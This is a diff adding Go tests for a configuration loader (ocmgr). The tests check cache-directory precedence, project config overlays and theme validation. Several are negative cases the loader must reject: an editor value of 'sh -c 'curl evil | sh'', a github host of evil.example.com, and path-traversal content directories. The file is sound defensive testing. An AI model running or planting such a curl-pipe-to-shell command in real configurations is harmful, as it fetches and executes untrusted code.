@@ -0,0 +1,161 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"testing"
+)
+
+// isolate points the home and XDG directories at a fresh temporary
+// directory and makes it the working directory, so no real
+// configuration is read.
+func isolate(t *testing.T) string {
+	t.Helper()
+	home := t.TempDir()
+	t.Setenv("HOME", home)
+	t.Setenv("XDG_CONFIG_HOME", "")
+	t.Setenv("XDG_DATA_HOME", "")
+	t.Setenv("OCMGR_CACHE_DIR", "")
+	t.Chdir(home)
+	return home
+}
+
+func writeGlobal(t *testing.T, content string) {
+	t.Helper()
+	if err := os.MkdirAll(ConfigDir(), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.WriteFile(ConfigPath(), []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestCacheDirPrecedence(t *testing.T) {
+	home := isolate(t)
+
+	if got, want := CacheDir(), filepath.Join(home, ".ocmgr", ".sync-cache"); got != want {
+		t.Errorf("default: CacheDir() = %q, want %q", got, want)
+	}
+
+	writeGlobal(t, "[store]\ncache_dir = \"~/fast/cache\"\n")
+	if got, want := CacheDir(), filepath.Join(home, "fast", "cache"); got != want {
+		t.Errorf("config key: CacheDir() = %q, want %q", got, want)
+	}
+
+	env := filepath.Join(home, "ci-cache")
+	t.Setenv("OCMGR_CACHE_DIR", env)
+	if got := CacheDir(); got != env {
+		t.Errorf("env over config key: CacheDir() = %q, want %q", got, env)
+	}
+}
+
+func TestCacheDirFollowsXDGDataHome(t *testing.T) {
+	home := isolate(t)
+	data := filepath.Join(home, "data")
+	t.Setenv("XDG_DATA_HOME", data)
+
+	if got, want := CacheDir(), filepath.Join(data, "ocmgr", ".sync-cache"); got != want {
+		t.Errorf("CacheDir() = %q, want %q", got, want)
+	}
+}
+
+func writeProject(t *testing.T, dir, content string) {
+	t.Helper()
+	if err := os.WriteFile(filepath.Join(dir, ProjectFile), []byte(content), 0o644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadForDirOverlaysAllowedKeys(t *testing.T) {
+	home := isolate(t)
+	writeGlobal(t, "[defaults]\nmerge_strategy = \"skip\"\neditor = \"nano\"\n")
+
+	project := filepath.Join(home, "project")
+	sub := filepath.Join(project, "sub")
+	if err := os.MkdirAll(filepath.Join(project, ".git"), 0o755); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.MkdirAll(sub, 0o755); err != nil {
+		t.Fatal(err)
+	}
+	writeProject(t, project, "[defaults]\nmerge_strategy = \"merge\"\ncontent_dirs = [\"agents\", \"rules\"]\n")
+
+	cfg, err := LoadForDir(sub)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Defaults.MergeStrategy != "merge" {
+		t.Errorf("merge_strategy = %q, want the project's %q", cfg.Defaults.MergeStrategy, "merge")
+	}
+	if got := cfg.Defaults.ContentDirs; len(got) != 2 || got[1] != "rules" {
+		t.Errorf("content_dirs = %v, want the project's", got)
+	}
+	if cfg.Defaults.Editor != "nano" {
+		t.Errorf("editor = %q, want the global %q", cfg.Defaults.Editor, "nano")
+	}
+	if cfg.Defaults.MaxFiles != DefaultConfig().Defaults.MaxFiles {
+		t.Errorf("max_files = %d, want the default", cfg.Defaults.MaxFiles)
+	}
+}
+
+func TestLoadForDirRejectsUnsafeKeys(t *testing.T) {
+	for _, content := range []string{
+		"[github]\nhost = \"evil.example.com\"\n",
+		"[defaults]\neditor = \"sh -c 'curl evil | sh'\"\n",
+		"[store]\ncache_dir = \"~/work\"\n",
+		"[profile_sets]\nteam = [\"x\"]\n",
+	} {
+		home := isolate(t)
+		writeProject(t, home, content)
+
+		if _, err := LoadForDir(home); err == nil {
+			t.Errorf("LoadForDir() accepted a project file with:\n%s", content)
+		}
+	}
+}
+
+func TestLoadRejectsUnsafeContentDirs(t *testing.T) {
+	for _, dirs := range []string{`["/etc"]`, `[".."]`, `["agents/../../x"]`, `["agents", "agents"]`} {
+		home := isolate(t)
+		writeProject(t, home, "[defaults]\ncontent_dirs = "+dirs+"\n")
+		if _, err := LoadForDir(home); err == nil {
+			t.Errorf("project content_dirs = %s accepted", dirs)
+		}
+
+		home = isolate(t)
+		if err := os.MkdirAll(ConfigDir(), 0o755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(ConfigPath(), []byte("[defaults]\ncontent_dirs = "+dirs+"\n"), 0o644); err != nil {
+			t.Fatal(err)
+		}
+		if _, err := LoadForDir(home); err == nil {
+			t.Errorf("global content_dirs = %s accepted", dirs)
+		}
+	}
+}
+
+func TestThemeValidate(t *testing.T) {
+	valid := []Theme{
+		{},
+		{Name: "light"},
+		{Name: "dark", Primary: "#7C3AED", Muted: "#abc", Background: "236"},
+	}
+	for _, th := range valid {
+		if err := th.Validate(); err != nil {
+			t.Errorf("%+v: %v", th, err)
+		}
+	}
+
+	invalid := []Theme{
+		{Name: "solarized"},
+		{Primary: "violet"},
+		{Text: "#12345"},
+		{Error: "256"},
+	}
+	for _, th := range invalid {
+		if err := th.Validate(); err == nil {
+			t.Errorf("%+v: no error", th)
+		}
+	}
+}